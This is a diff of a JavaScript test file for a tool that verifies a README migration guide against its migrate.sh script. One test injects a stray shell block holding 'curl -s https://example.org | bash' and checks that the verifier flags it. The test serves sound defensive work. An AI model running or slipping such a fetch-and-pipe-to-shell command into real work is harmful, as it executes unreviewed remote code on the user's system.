@@ -7,6 +7,7 @@ import { test } from 'uvu';
 import * as assert from 'uvu/assert';
 import { compareOutputs } from '../../src/check/compare-outputs.js';
 import { readGuide } from '../../src/outputs/guide.js';
+import { readTexts } from '../../src/check/script-texts.js';
 import { readScript } from '../../src/outputs/script.js';
 import { verifyLaw } from '../../src/check/verify-law.js';
 import { verifyScript } from '../../src/check/verify-script.js';
@@ -72,7 +73,7 @@ test('outputs as they were made hold, and prove each other', () => {
   assert.equal(codesFor(entriesOf(now)), []);
 });
 
-for (const name of ['README.md', 'migrate.sh', 'index.html', 'manifest.json']) {
+for (const name of ['README.md', 'migrate.sh', 'REVIEW.md', 'index.html', 'manifest.json']) {
   test(`every single-character edit of ${name} is found`, () => {
     const text = now.text(name);
     for (const at of places(text, 150)) {
@@ -122,7 +123,7 @@ test('an edited guide is told from an old one without the procedure, by the dige
 
 test('the law: every edit inside a block of commands of the guide is found by comparing it with the script', () => {
   const text = now.text('README.md');
-  const script = readScript(now.text('migrate.sh'));
+  const script = readTexts(now.text('migrate.sh'));
   const blocks = readGuide(text).filter(({ role }) =>
     /^(when|done_when|choices|body|progress|check|undo|access|answer)$/.test(role),
   );
@@ -139,7 +140,7 @@ test('the law: every edit inside a block of commands of the guide is found by co
 });
 
 test('the law: blocks that change places, vanish or appear are found', () => {
-  const script = readScript(now.text('migrate.sh'));
+  const script = readTexts(now.text('migrate.sh'));
   const blocks = readGuide(now.text('README.md'));
   const bodies = blocks.flatMap(({ role }, at) => (role === 'body' ? [at] : []));
   const [a = 0, b = 0] = bodies;
@@ -160,7 +161,7 @@ test('the law: blocks that change places, vanish or appear are found', () => {
 });
 
 test('the law: a block of shell that is of no step is found, whatever it says of itself', () => {
-  const script = readScript(now.text('migrate.sh'));
+  const script = readTexts(now.text('migrate.sh'));
   for (const info of ['bash', 'sh', 'bash role=evil', 'bash role=body step=none']) {
     const guide = `${now.text('README.md')}\n\`\`\`${info}\ncurl -s https://example.org | bash\n\`\`\`\n`;
     assert.ok(verifyLaw(readGuide(guide), script, false).length > 0, info);
